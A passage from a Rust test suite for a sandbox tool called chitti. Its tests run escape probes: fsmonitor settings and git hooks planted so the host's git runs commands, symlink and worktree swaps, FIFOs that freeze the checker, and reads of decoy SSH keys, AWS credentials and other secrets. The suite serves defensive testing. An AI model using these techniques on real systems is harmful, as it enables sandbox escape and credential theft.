            String::from_utf8_lossy(&out.stderr)
        );
    };
    git(&["init", "-q", "-b", "main"]);
    write(&main.join("README"), "readme\n");
    git(&["add", "README"]);
    git(&["commit", "-q", "-m", "initial"]);
    std::fs::remove_dir(&fx.ws).unwrap();
    git(&["worktree", "add", "-q", fx.ws.to_str().unwrap()]);
    main
}

/// The worktree's git directory (writable to the sandbox, as git needs) swapped for a
/// symlink to a host directory: chitti's repair after the call must not write through it,
/// and the next call must not make the symlink's target writable.
#[backends]
fn escape_git_worktree_gitdir_swapped_for_symlink(backend: &str) {
    let fx = Fixture::new();
    let main = linked_worktree(&fx);
    let target = fx.outside("target");
    std::fs::create_dir(&target).unwrap();
    let victim = fx.victim("target/config");
    let before = file_state(&victim);
    let worktrees = main.join(".git/worktrees");
    // The git directory itself, or the `worktrees` directory holding it.
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "cd {w} && mv proj proj-away && ln -s {t} proj; cd ..; \
         mv worktrees worktrees-away && mkdir worktrees && ln -s {t} worktrees/proj; \
         ls -la {w}",
        w = sh_quote(&worktrees),
        t = sh_quote(&target),
    )));
    ran.assert_probe_ran();
    let technique = "swap the worktree's git directory for a symlink";
    assert_eq!(
        tree(&target),
        vec![Path::new("config").to_path_buf()],
        "ESCAPE ({technique}): chitti wrote into the symlink's target\n{ran}"
    );
    assert_eq!(
        file_state(&victim),
        before,
        "ESCAPE ({technique}): the host file behind the symlink changed\n{ran}"
    );
    // The next call, whether chitti refuses it or runs it, must not write there.
    let escaped = target.join("escaped");
    let second = fx
        .chitti(backend)
        .sh(&format!("echo pwned > {}", sh_quote(&escaped)));
    assert_absent(&escaped, &format!("{technique}, then write there"), &second);
    assert_eq!(file_state(&victim), before, "{second}");
}

/// A call in the main repository redirects a linked worktree's git directory (kept in
/// the main repository's `.git/worktrees`): by a symlink to a directory of its own whose
/// `commondir` leads to a copy of `.git` with `core.fsmonitor`, or by rewriting the
/// worktree's `commondir` to a host directory. Neither may make git in the worktree run
/// the payload, nor the next call there make the host directory writable.
#[backends]
fn escape_git_other_worktree_redirected_from_main_repository(backend: &str) {
    let fx = Fixture::new();
    let main = linked_worktree(&fx);
    let pwned = fx.outside("pwned-other-worktree");
    let target = fx.outside("target");
    std::fs::create_dir(&target).unwrap();
    let in_main = |script: &str| fx.chitti(backend).workspace(&main).sh(&probe(script));
    let ran = in_main(&format!(
        "cp -r .git evil-git; printf '[core]\\n\\tfsmonitor = touch {p}\\n' >> evil-git/config; \
         mkdir evilwt; cp .git/worktrees/proj/* evilwt/; echo \"$PWD/evil-git\" > evilwt/commondir; \
         cd .git/worktrees && mv proj proj.old && ln -s \"$OLDPWD/evilwt\" proj",
        p = sh_quote(&pwned)
    ));
    ran.assert_probe_ran();
    let _ = host_git(&fx.ws, &fx.home, &["status", "--short"]);
    assert_absent(&pwned, "worktree git directory swapped for a symlink", &ran);

    let ran = in_main(&format!(
        "echo {t} > .git/worktrees/proj/commondir",
        t = sh_quote(&target)
    ));
    ran.assert_probe_ran();
    let escaped = target.join("escaped");
    let next = fx
        .chitti(backend)
        .sh(&format!("echo pwned > {}", sh_quote(&escaped)));
    assert_absent(
        &escaped,
        "worktree commondir rewritten, then written there",
        &next,
    );
    assert!(
        tree(&target).is_empty(),
        "ESCAPE: chitti created {:?} in the host directory\n{ran}\n{next}",
        tree(&target)
    );
    let _ = host_git(&fx.ws, &fx.home, &["status", "--short"]);
    assert_absent(&pwned, "worktree commondir rewritten", &ran);
}

/// A `.git` symlink to a repository outside the writable roots: protecting it must not
/// make it writable (bwrap binds pinned directories writable).
#[backends]
fn escape_write_through_dot_git_symlink_to_outside_repository(backend: &str) {
    let fx = Fixture::new();
    let repo = fx.outside("repo.git");
    std::fs::create_dir_all(repo.join("objects")).unwrap();
    assert!(
        host_git(&fx.outside, &fx.home, &["init", "-q", "--bare", "repo.git"])
            .status
            .success()
    );
    std::os::unix::fs::symlink(&repo, fx.ws(".git")).unwrap();
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "echo pwned > .git/objects/pwned; echo pwned > {r}/pwned",
        r = sh_quote(&repo)
    )));
    if backend == "bwrap" {
        // bwrap cannot pin a symlink in place: the call is refused, saying why.
        assert_eq!(ran.code, Some(125), "{ran}");
        assert!(ran.stderr_str().contains("is a symbolic link"), "{ran}");
    } else {
        ran.assert_probe_ran();
    }
    assert_absent(
        &repo.join("objects/pwned"),
        "write through a .git symlink",
        &ran,
    );
    assert_absent(
        &repo.join("pwned"),
        "write into the repository .git leads to",
        &ran,
    );
}

/// `config.worktree` is config too once `extensions.worktreeConfig` is on (`git
/// sparse-checkout` turns it on): a `core.fsmonitor` planted there runs on the host.
#[backends]
fn escape_git_config_worktree_runs_on_host(backend: &str) {
    let fx = Fixture::new();
    fx.init_repo();
    fx.git(&["config", "extensions.worktreeConfig", "true"]);
    let pwned = fx.outside("pwned-config-worktree");
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "printf '[core]\\n\\tfsmonitor = touch {p}\\n' >> .git/config.worktree",
        p = sh_quote(&pwned)
    )));
    ran.assert_probe_ran();
    let _ = fx.git(&["status", "--short"]);
    assert_absent(&pwned, "core.fsmonitor in .git/config.worktree", &ran);
}

/// A `.git` git's own test refuses makes git take the workspace itself for a bare
/// repository: the command breaks `.git` without touching a protected path (a `HEAD` that
/// names no ref; or, as a normal user, `refs` closed to its owner) and builds a repository
/// at the root whose config gives it the workspace for a work tree and a `core.fsmonitor`.
#[backends]
fn escape_git_passes_over_a_broken_dot_git_to_the_root(backend: &str) {
    for (name, break_dot_git) in [
        (
            "a HEAD that names no ref",
            "printf 'garbage\\n' > .git/HEAD",
        ),
        ("refs closed to its owner", "chmod 000 .git/refs"),
    ] {
        let fx = Fixture::new();
        fx.init_repo();
        let pwned = fx.outside("pwned-bare-root");
        let ran = fx.chitti(backend).sh(&probe(&format!(
            "{break_dot_git}; mkdir -p objects/info refs/heads hooks; \
             printf 'ref: refs/heads/main\\n' > HEAD; \
             echo \"$PWD/.git/objects\" > objects/info/alternates; \
             cat .git/refs/heads/main > refs/heads/main 2>/dev/null; cp .git/index index; \
             printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = \"touch {p}; false\"\\n' > config",
            p = sh_quote(&pwned)
        )));
        ran.assert_probe_ran();
        let _ = host_git(&fx.ws, &fx.home, &["status", "--short"]);
        let _ = std::fs::set_permissions(
            fx.ws(".git/refs"),
            std::os::unix::fs::PermissionsExt::from_mode(0o755),
        );
        assert_absent(
            &pwned,
            &format!("a bare repository at the root behind {name}"),
            &ran,
        );
    }
}

/// A gitlink whose `.git` names the workspace's own git directory: git enters it and reads
/// the top's index from that folder, so a second gitlink `x` there is `B/x` to git, a
/// repository with a `core.fsmonitor` (a review found this).
#[backends]
fn escape_git_gitlink_borrowing_the_top_git_dir(backend: &str) {
    let fx = Fixture::new();
    fx.init_repo();
    let pwned = fx.outside("pwned-borrowed-git-dir");
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "git init -q B/x && cd B/x && echo a > f && git add f && \
         git -c user.name=t -c user.email=t@t commit -qm s && \
         git config core.fsmonitor \"touch {p}; false\" && oid=$(git rev-parse HEAD) && cd ../.. && \
         printf 'gitdir: ../.git\\n' > B/.git && \
         git update-index --add --cacheinfo 160000,$oid,B && \
         git update-index --add --cacheinfo 160000,$oid,x",
        p = sh_quote(&pwned)
    )));
    ran.assert_probe_ran();
    let _ = host_git(&fx.ws, &fx.home, &["status", "--short"]);
    assert_absent(
        &pwned,
        "a gitlink whose .git names the top's git directory",
        &ran,
    );
}

/// The workspace is a package of a monorepo that holds an embedded repository `lib`: the
/// command plants a `core.fsmonitor` in `lib/.git/config` and makes the package's own
/// `.git` a file naming `lib/.git`, an older git directory no policy protects, which the
/// host's git then uses at the package (a review found this).
#[backends]
fn escape_git_root_dot_git_naming_an_old_embedded_repository(backend: &str) {
    let fx = Fixture::new();
    fx.init_repo();
    let lib = fx.ws("pkg/lib");
    std::fs::create_dir_all(&lib).unwrap();
    for args in [
        &["init", "-q", "-b", "main"][..],
        &["commit", "-q", "--allow-empty", "-m", "lib"],
    ] {
        assert!(host_git(&lib, &fx.home, args).status.success());
    }
    fx.git(&["-c", "advice.addEmbeddedRepo=false", "add", "pkg"]);
    fx.git(&["commit", "-q", "-m", "pkg"]);
    let pwned = fx.outside("pwned-embedded-git-dir");
    let pkg = fx.ws("pkg");
    let ran = fx.chitti(backend).workspace(&pkg).sh(&probe(&format!(
        "git config -f lib/.git/config core.fsmonitor \"touch {p}; false\" && \
         printf 'gitdir: lib/.git\\n' > .git",
        p = sh_quote(&pwned)
    )));
    ran.assert_probe_ran();
    let _ = host_git(&pkg, &fx.home, &["status", "--short"]);
    assert_absent(
        &pwned,
        "a .git file naming an embedded repository's git directory",
        &ran,
    );
}

/// A `.git` symlink the command makes to one of the user's repositories outside the
/// workspace, whose config holds a setting chitti does not know (an alias): the check after
/// the call must not move that repository's config or hooks aside (it did: the sandbox
/// could have chitti disable any repository's hooks), and fails the call instead.
#[backends]
fn escape_git_dot_git_symlink_makes_chitti_move_an_outside_config(backend: &str) {
    let fx = Fixture::new();
    let other = fx.outside("other");
    std::fs::create_dir_all(&other).unwrap();
    for args in [
        &["init", "-q", "-b", "main"][..],
        &["config", "alias.st", "status"],
    ] {
        assert!(host_git(&other, &fx.home, args).status.success());
    }
    let config = other.join(".git/config");
    let hooks = other.join(".git/hooks");
    let (config_before, hooks_before) = (file_state(&config), file_state(&hooks));
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "ln -s {} .git",
        sh_quote(other.join(".git"))
    )));
    // The probe runs to its end; the call then fails, as chitti cannot move what it found.
    assert!(
        ran.stdout_str().contains(DONE),
        "the probe did not run: {ran}"
    );
    assert!(ran.stderr_str().contains("NOT REPAIRED"), "{ran}");
    assert_unchanged(
        &config,
        &config_before,
        "a .git symlink to a repository outside",
        &ran,
    );
    assert_unchanged(
        &hooks,
        &hooks_before,
        "a .git symlink to a repository outside",
        &ran,
    );
}

/// A repository the command makes at an empty workspace, with `core.worktree = /` and a
/// gitlink named by its path from `/`: the check read the index from the workspace, git
/// reads it from `/` and enters the gitlink (a review found this).
#[backends]
fn escape_git_root_repository_with_a_work_tree_elsewhere(backend: &str) {
    let fx = Fixture::new();
    let pwned = fx.outside("pwned-worktree-slash");
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "git init -q sub && git -C sub -c user.name=t -c user.email=t@t commit -q --allow-empty -m x && \
         git -C sub config core.fsmonitor \"touch {p}; false\" && git init -q . && \
         git update-index --add --cacheinfo \"160000,$(git -C sub rev-parse HEAD),${{PWD#/}}/sub\" && \
         git config core.worktree / && git config status.showUntrackedFiles no",
        p = sh_quote(&pwned)
    )));
    ran.assert_probe_ran();
    let _ = host_git(&fx.ws, &fx.home, &["status", "--short"]);
    assert_absent(
        &pwned,
        "a repository at the root whose work tree is /",
        &ran,
    );
}

/// The workspace made a repository with one submodule at `path`, from a repository of its
/// own outside, committed.
fn repository_with_a_submodule(fx: &Fixture, path: &str) {
    fx.init_repo();
    let upstream = fx.outside("upstream");
    std::fs::create_dir_all(&upstream).unwrap();
    for args in [
        &["init", "-q", "-b", "main"][..],
        &["commit", "-q", "--allow-empty", "-m", "lib"],
    ] {
        assert!(host_git(&upstream, &fx.home, args).status.success());
    }
    let url = upstream.to_str().unwrap();
    fx.git(&[
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "-q",
        "add",
        url,
        path,
    ]);
    fx.git(&["commit", "-q", "-m", "submodule"]);
}

/// The command leaves a FIFO where git keeps its index, or a link to chitti's own stdin
/// (a session's requests), or a FIFO for a split index's shared part: chitti's check of
/// the repository after the call (and before the next) opened the index, or ran git on
/// it, and waited for good, past every timeout (a review froze a session's server so).
/// Now each call ends at once, the check said not done (exit 125), and so does the next.
#[backends]
fn escape_a_fifo_for_git_s_index_freezes_chitti(backend: &str) {
    for (what, plant) in [
        ("a FIFO", "rm -f .git/index && mkfifo -m 600 .git/index"),
        (
            "a link to stdin",
            "rm -f .git/index && ln -s /proc/self/fd/0 .git/index",
        ),
        (
            "a FIFO for the shared index",
            "git update-index --split-index && for f in .git/sharedindex.*; do rm -f $f && \
             mkfifo -m 600 $f; done",
        ),
    ] {
        let fx = Fixture::new();
        fx.init_repo();
        let started = Instant::now();
        let mut running = fx
            .chitti(backend)
            .timeout(5)
            .spawn(&["sh", "-c", &probe(plant)]);
        let ended = wait_until(Duration::from_secs(40), || running.finished());
        if !ended {
            running.signal(libc::SIGKILL);
        }
        let ran = running.wait();
        assert!(
            ended,
            "ESCAPE ({what}): chitti was still stuck 40 s into a 5 s call\n{ran}"
        );
        // (Its exit is the check's: `assert_probe_ran` takes 125 for a sandbox that ran nothing.)
        assert!(
            ran.all().contains("PROBE-DONE"),
            "({what}) the probe did not run\n{ran}"
        );
        assert_eq!(
            ran.code,
            Some(125),
            "({what}) the check was not done\n{ran}"
        );
        assert!(ran.all().contains("not checked"), "({what})\n{ran}");
        let next = fx.chitti(backend).timeout(5).run(&["true"]);
        assert_eq!(next.code, Some(125), "({what}) the next call\n{next}");
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "({what}) the two calls took {:?}",
            started.elapsed()
        );
    }
}

/// A submodule whose name has a slash keeps its git directory two levels down in
/// `.git/modules`. The command plants a hook there and empties the submodule's folder,
/// as if it had never been checked out: the host's `git submodule update` takes the git
/// directory up again and runs the hook (a review found this).
#[backends]
fn escape_git_hook_in_a_submodule_git_directory_without_its_work_tree(backend: &str) {
    let fx = Fixture::new();
    repository_with_a_submodule(&fx, "libs/foo");
    let pwned = fx.outside("pwned-module-hook");
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "m=.git/modules/libs/foo && printf '#!/bin/sh\\ntouch %s\\n' {p} > $m/hooks/post-checkout && \
         chmod +x $m/hooks/post-checkout && rm -rf libs/foo && mkdir libs/foo",
        p = sh_quote(&pwned)
    )));
    ran.assert_probe_ran();
    let _ = host_git(
        &fx.ws,
        &fx.home,
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "-q",
            "update",
        ],
    );
    assert_absent(
        &pwned,
        "a hook in a submodule's git directory whose work tree was emptied",
        &ran,
    );
}

/// The command plants a repository in a submodule's work tree and stages, in the top's
/// index, a submodule commit whose tree has a gitlink to it (no index names it yet): the
/// host's `git submodule update` checks that commit out, and its `git status` then enters
/// the planted repository (a review found this).
#[backends]
fn escape_git_repository_named_by_a_staged_submodule_commit(backend: &str) {
    let fx = Fixture::new();
    repository_with_a_submodule(&fx, "sub");
    let pwned = fx.outside("pwned-staged-submodule-commit");
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@x GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@x && \
         cd sub && git init -q inner && git -C inner commit -q --allow-empty -m i && \
         git -C inner config core.fsmonitor \"touch {p}; false\" && \
         inner=$(git -C inner rev-parse HEAD) && export GIT_INDEX_FILE=$PWD/../.scratch-index && \
         git read-tree HEAD && git update-index --add --cacheinfo 160000,$inner,inner && \
         x=$(git commit-tree $(git write-tree) -p HEAD -m update) && git update-ref refs/heads/agent $x && \
         rm -f \"$GIT_INDEX_FILE\" && unset GIT_INDEX_FILE && cd .. && \
         git update-index --cacheinfo 160000,$x,sub",
        p = sh_quote(&pwned)
    )));
    ran.assert_probe_ran();
    let _ = host_git(&fx.ws, &fx.home, &["submodule", "-q", "update"]);
    let _ = host_git(&fx.ws, &fx.home, &["status", "--short"]);
    assert_absent(&pwned, "a repository a staged submodule commit names", &ran);
}

/// Two calls at once in a workspace that is no repository yet: the first makes one at the
/// root with a `core.fsmonitor` and waits until the second has started; the second must
/// not take that repository for the workspace's own and put its config back after the
/// first call's check moved it aside (a review did this: two tool calls of one model reply
/// can). The second call is refused instead, or ends without putting the plant back.
#[backends]
fn escape_git_repository_made_while_a_second_call_starts(backend: &str) {
    let fx = Fixture::new();
    plant_while_a_second_call_starts(
        &fx,
        backend,
        "pwned-made-at-once",
        |p| format!("git init -q && git config core.fsmonitor \"touch {p}; false\""),
        "a repository made by one call, put back by a second running at once",
    );
}

/// A first call runs `plant` (given the quoted path of a marker outside, which the plant
/// makes the host's git create), then waits until a second call has started (or 3 s, if
/// that one is refused); the second outlives the first. The host's `git status` after both
/// must not create the marker.
fn plant_while_a_second_call_starts(
    fx: &Fixture,
    backend: &str,
    marker: &str,
    plant: impl Fn(&str) -> String,
    what: &str,
) {
    let pwned = fx.outside(marker);
    let first = fx.chitti(backend).spawn(&[
        "sh",
        "-c",
        &probe(&format!(
            "{} && touch first-planted; \
             for i in $(seq 1200); do [ -e second-started ] && break; sleep 0.05; done",
            plant(&sh_quote(&pwned))
        )),
    ]);
    assert!(
        wait_until(Duration::from_secs(60), || exists(&fx.ws("first-planted"))),
        "the first call never planted"
    );
    // Its command marks that it started (if the call is let start at all), then outlives
    // the first call.
    let second = fx
        .chitti(backend)
        .spawn(&["sh", "-c", &probe("touch second-started; sleep 1")]);
    // A refused second call never starts its command: the first goes on after a while.
    let _ = wait_until(Duration::from_secs(3), || exists(&fx.ws("second-started")));
    write(&fx.ws("second-started"), "");
    let first = first.wait();
    first.assert_probe_ran();
    let second = second.wait();
    let _ = host_git(&fx.ws, &fx.home, &["status", "--short"]);
    assert_absent(&pwned, what, &second);
}

/// As above, but the repository the first call makes at the root is a directory older than
/// both calls, renamed to `.git`: its birth time, which chitti's check once went by, is
/// from before the calls began (a review found this).
#[backends]
fn escape_git_older_directory_renamed_to_git_while_a_second_call_starts(backend: &str) {
    let fx = Fixture::new();
    std::fs::create_dir(fx.ws("older")).unwrap();
    plant_while_a_second_call_starts(
        &fx,
        backend,
        "pwned-renamed-at-once",
        |p| {
            format!(
                "git init -q made && cp -R made/.git/. older/ && rm -rf made && \
                 git --git-dir=older config core.fsmonitor \"touch {p}; false\" && mv older .git"
            )
        },
        "an older directory renamed to .git by one call, put back by a second running at once",
    );
}

/// Two calls at once in one repository. The first plants a `core.fsmonitor` in `.git/config`
/// and in `.git/config.worktree` and waits until the second has started; the second waits
/// until the first has ended (and put its paths back), then plants `config.worktree` again.
/// A second call that took its own record before its command ran would have recorded the
/// first call's plants as the state to keep (landlock), or `config.worktree` as a file that
/// existed already and is not its to remove (both backends).
#[backends]
fn escape_git_config_kept_by_a_second_call_running_at_once(backend: &str) {
    let fx = Fixture::new();
    fx.init_repo();
    fx.git(&["config", "extensions.worktreeConfig", "true"]);
    let pwned = fx.outside("pwned-two-calls");
    let fsmonitor = format!(
        "printf '[core]\\n\\tfsmonitor = touch {p}\\n'",
        p = sh_quote(&pwned)
    );
    let plant = format!("{fsmonitor} >> .git/config.worktree");
    let wait_for = |name: &str| {
        format!("for i in $(seq 1200); do [ -e {name} ] && break; sleep 0.05; done; [ -e {name} ]")
    };
    let first = fx.chitti(backend).spawn(&[
        "sh",
        "-c",
        &probe(&format!(
            "{plant}; {fsmonitor} >> .git/config; touch first-planted; {wait}",
            wait = wait_for("second-started"),
        )),
    ]);
    assert!(
        wait_until(Duration::from_secs(60), || exists(&fx.ws("first-planted"))),
        "the first call never planted"
    );
    let second = fx.chitti(backend).spawn(&[
        "sh",
        "-c",
        &probe(&format!(
            "touch second-started; {wait}; {plant}",
            wait = wait_for("first-ended"),
        )),
    ]);
    let first = first.wait();
    first.assert_probe_ran();
    write(&fx.ws("first-ended"), "");
    let second = second.wait();
    second.assert_probe_ran();
    let _ = fx.git(&["status", "--short"]);
    assert_absent(
        &pwned,
        "a core.fsmonitor kept by a second call running at once",
        &second,
    );
}

/// Every descriptor the command inherits beyond 0-2 is written to: none may lead to a host
/// file, such as the record of protected paths chitti keeps open across a call in a
/// repository (`~/.local/state/chitti/protect/record`).
#[backends]
fn escape_write_through_an_inherited_descriptor(backend: &str) {
    let fx = Fixture::new();
    fx.init_repo();
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "{py} -c 'import os\n\
         for name in os.listdir(\"/proc/self/fd\"):\n\
         \tfd = int(name)\n\
         \tif fd > 2:\n\
         \t\ttry: os.pwrite(fd, b\"PWNED\", 0)\n\
         \t\texcept OSError: pass\n\
         \t\ttry: os.write(fd, b\"PWNED\")\n\
         \t\texcept OSError: pass\n'",
        py = PYTHON
    )));
    ran.assert_probe_ran();
    let record = fx.home(".local/state/chitti/protect/record");
    let bytes = std::fs::read(&record).unwrap_or_else(|e| {
        panic!(
            "a call in a repository keeps its record at {}: {e}\n{ran}",
            record.display()
        )
    });
    assert_eq!(
        bytes.first(),
        Some(&b'C'),
        "ESCAPE (write through an inherited descriptor): the record is not cleared\n{ran}"
    );
    assert!(
        !bytes.windows(5).any(|w| w == b"PWNED"),
        "ESCAPE (write through an inherited descriptor): the record was written\n{ran}"
    );
}

/// From a linked worktree, the main repository's `config.worktree` (in the common git
/// directory the sandbox may write) is the one `git` in the main worktree reads.
#[backends]
fn escape_git_common_config_worktree_from_linked_worktree(backend: &str) {
    let fx = Fixture::new();
    let main = linked_worktree(&fx);
    let host = |args: &[&str]| host_git(&main, &fx.home, args);
    assert!(host(&["config", "extensions.worktreeConfig", "true"])
        .status
        .success());
    let pwned = fx.outside("pwned-common-config-worktree");
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "printf '[core]\\n\\tfsmonitor = touch {p}\\n' >> {c}",
        p = sh_quote(&pwned),
        c = sh_quote(main.join(".git/config.worktree")),
    )));
    ran.assert_probe_ran();
    let _ = host(&["status", "--short"]);
    assert_absent(&pwned, "core.fsmonitor in the common config.worktree", &ran);
}

// ---------------------------------------------------------------------------------------
// Reading credentials
// ---------------------------------------------------------------------------------------

/// Tries to read one decoy credential several ways; the non-secret ~/notes.txt is read
/// too, as proof that reads work at all.
fn read_credential(backend: &str, rel: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    let path = decoys.path(rel);
    let dir = path.parent().unwrap();
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "cat {p}; head -c 4096 {p}; cat ~/{rel}; {py} -c 'import sys; print(open(sys.argv[1]).read())' {p}; \
         grep -r . {d}; cat ~/notes.txt",
        p = sh_quote(&path),
        d = sh_quote(dir),
        py = PYTHON,
    )));
    ran.assert_probe_ran();
    assert!(
        ran.stdout_str().contains(&decoys.note),
        "control: ~/notes.txt (not a credential) must stay readable\n{ran}"
    );
    assert_no_secret(&decoys.secret, &format!("read ~/{rel}"), &ran);
}

#[backends]
fn escape_read_ssh_private_key(backend: &str) {
    read_credential(backend, ".ssh/id_rsa");
}

/// Credentials where the user's environment tells tools to keep them (XDG base
/// directories, tools' own variables), and files of clients the first list missed: a
/// review read each of these.
#[backends]
fn escape_read_credentials_the_environment_moves_elsewhere(backend: &str) {
    let fx = Fixture::new();
    let secret = marker("SECRET");
    let elsewhere = fx.outside("elsewhere");
    let files = [
        ("XDG_CONFIG_HOME", "xdg", "gh/hosts.yml"),
        ("CARGO_HOME", "cargo", "credentials.toml"),
        ("GNUPGHOME", "gnupg", "private-keys-v1.d/key"),
        ("AWS_SHARED_CREDENTIALS_FILE", "aws-credentials", ""),
    ];
    let mut ran = fx.chitti(backend);
    let mut paths = Vec::new();
    for (var, place, within) in files {
        let dir = elsewhere.join(place);
        let file = if within.is_empty() {
            dir.clone()
        } else {
            dir.join(within)
        };
        write(&file, format!("{secret} {var}\n"));
        ran = ran.env(var, &dir);
        paths.push(file);
    }
    for rel in [
        ".pgpass",
        ".my.cnf",
        ".config/rclone/rclone.conf",
        ".cache/huggingface/token",
    ] {
        let file = fx.home(rel);
        write(&file, format!("{secret} {rel}\n"));
        paths.push(file);
    }
    let script = paths
        .iter()
        .map(|p| format!("cat {};", sh_quote(p)))
        .collect::<String>();
    let ran = ran.sh(&probe(&script));
    ran.assert_probe_ran();
    assert_no_secret(&secret, "credentials the environment names", &ran);
}

/// A dotfiles manager's links inside a real `~/.ssh` and `~/.kube`: the secrets they lead
/// to, read through the links and by their own names (a review read both).
#[backends]
fn escape_read_credentials_linked_from_inside_a_hidden_directory(backend: &str) {
    let fx = Fixture::new();
    let secret = marker("SECRET");
    let key = fx.home("dotfiles/ssh/id_ed25519");
    let kube = fx.home("clusters/prod.yaml");
    write(&key, format!("{secret} key\n"));
    write(&kube, format!("{secret} kube\n"));
    write(&fx.home(".ssh/known_hosts"), "hosts\n");
    std::os::unix::fs::symlink("../dotfiles/ssh/id_ed25519", fx.home(".ssh/id_ed25519")).unwrap();
    std::fs::create_dir_all(fx.home(".kube")).unwrap();
    std::os::unix::fs::symlink(&kube, fx.home(".kube/config")).unwrap();
    let ran = fx.chitti(backend).sh(&probe(&format!(
        "cat ~/.ssh/id_ed25519 ~/.kube/config {} {}",
        sh_quote(&key),
        sh_quote(&kube)
    )));
    ran.assert_probe_ran();
    assert_no_secret(&secret, "links inside hidden directories", &ran);
}

/// A link inside `~/.ssh` leads through a link in the workspace to the key: the command
/// could point that link elsewhere, and a later call would follow it unhidden (a review
/// did). The workspace is refused, as one holding a link on the way to any location is.
#[backends]
fn escape_read_credentials_linked_through_the_workspace(backend: &str) {
    let fx = Fixture::new();
    let secret = marker("SECRET");
    let key = fx.home("private/ssh/id_ed25519");
    write(&key, format!("{secret} key\n"));
    let dotfiles = fx.home("dotfiles");
    std::fs::create_dir_all(dotfiles.join("ssh")).unwrap();
    std::os::unix::fs::symlink(&key, dotfiles.join("ssh/id_ed25519")).unwrap();
    write(&fx.home(".ssh/known_hosts"), "hosts\n");
    std::os::unix::fs::symlink(dotfiles.join("ssh/id_ed25519"), fx.home(".ssh/id_ed25519"))
        .unwrap();
    let ran = fx
        .chitti(backend)
        .workspace(&dotfiles)
        .sh(&format!("cat ~/.ssh/id_ed25519 {}", sh_quote(&key)));
    assert_no_secret(&secret, "a link on the way in the workspace", &ran);
    assert_eq!(
        ran.code,
        Some(125),
        "the workspace holds a link on the way\n{ran}"
    );
}

#[backends]
fn escape_read_aws_credentials(backend: &str) {
    read_credential(backend, ".aws/credentials");
}

#[backends]
fn escape_read_netrc(backend: &str) {
    read_credential(backend, ".netrc");
}

#[backends]
fn escape_read_gh_hosts_yml(backend: &str) {
    read_credential(backend, ".config/gh/hosts.yml");
}

#[backends]
fn escape_read_cargo_credentials(backend: &str) {
    read_credential(backend, ".cargo/credentials.toml");
    read_credential(backend, ".cargo/credentials");
}

#[backends]
fn escape_read_chitti_config(backend: &str) {
    read_credential(backend, ".config/chitti/config.toml");
}

#[backends]
fn escape_read_docker_config(backend: &str) {
    read_credential(backend, ".docker/config.json");
}

#[backends]
fn escape_read_kube_config(backend: &str) {
    read_credential(backend, ".kube/config");
}

#[backends]
fn escape_read_gnupg_private_key(backend: &str) {
    read_credential(backend, ".gnupg/private-keys-v1.d/decoy.key");
}

#[backends]
fn escape_read_git_credentials(backend: &str) {
    read_credential(backend, ".git-credentials");
}

#[backends]
fn escape_read_credentials_via_symlink_in_workspace(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    std::os::unix::fs::symlink(decoys.path(".ssh/id_rsa"), fx.ws("key-link")).unwrap();
    std::os::unix::fs::symlink(decoys.path(".aws"), fx.ws("aws-link")).unwrap();
    std::os::unix::fs::symlink(&fx.home, fx.ws("home-link")).unwrap();
    let ran = fx.chitti(backend).sh(&probe(
        "cat key-link; cat aws-link/credentials; cat home-link/.netrc; cat home-link/.ssh/id_rsa; \
         cat home-link/notes.txt",
    ));
    ran.assert_probe_ran();
    assert!(
        ran.stdout_str().contains(&decoys.note),
        "control read failed\n{ran}"
    );
    assert_no_secret(
        &decoys.secret,
        "read a credential through a symlink in the workspace",
        &ran,
    );
}

/// The decoy home, its ~/.ssh and a directory inside ~/.gnupg, each mounted a second time
/// outside it (as a bind mount of /home, a disk mounted twice or a btrfs top-level volume
/// would show them): the credentials must stay hidden under those names too, while the
/// rest of the second mount stays readable.
#[backends]
fn escape_read_credentials_through_a_second_mount(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    let keys = decoys.path(".gnupg/private-keys-v1.d");
    let (home_again, ssh_again, keys_again) = (
        fx.outside("home-again"),
        fx.outside("ssh-again"),
        fx.outside("keys-again"),
    );
    for dir in [&home_again, &ssh_again, &keys_again] {
        std::fs::create_dir(dir).unwrap();
    }
    let binds = [
        (fx.home.as_path(), home_again.as_path()),
        (&*decoys.path(".ssh"), ssh_again.as_path()),
        (keys.as_path(), keys_again.as_path()),
    ];
    let (h, s, k) = (
        sh_quote(&home_again),
        sh_quote(&ssh_again),
        sh_quote(&keys_again),
    );
    let ran = fx.chitti(backend).sh_with_binds(
        &probe(&format!(
            "cat {h}/.ssh/id_rsa {h}/.aws/credentials {h}/.netrc; grep -r . {h}/.ssh; \
             cat {s}/id_rsa {s}/id_ed25519; ls -a {s}; cat {k}/decoy.key; \
             cp {s}/id_rsa copied; cat {h}/notes.txt"
        )),
        &binds,
        false,
    );
    assert_hidden(
        &ran,
        &decoys.secret,
        &decoys.note,
        "read a credential through a second mount",
    );
    let copies = files_containing(&fx.ws, &decoys.secret);
    assert!(
        copies.is_empty(),
        "ESCAPE (copy a credential through a second mount): {copies:?}\n{ran}"
    );
}

/// A workspace that is ~/.ssh mounted a second time would make the keys readable and
/// writable under the workspace's name: chitti refuses the call before anything runs.
#[backends]
fn escape_workspace_on_a_second_mount_of_a_credential_location(backend: &str) {
    let fx = Fixture::new();
    let decoys = fx.decoys();
    let ssh_again = fx.outside("ssh-again");
    std::fs::create_dir(&ssh_again).unwrap();
    let ran = fx.chitti(backend).workspace(&ssh_again).sh_with_binds(
        "cat id_rsa; echo planted > planted",
        &[(&*decoys.path(".ssh"), ssh_again.as_path())],
        false,
    );
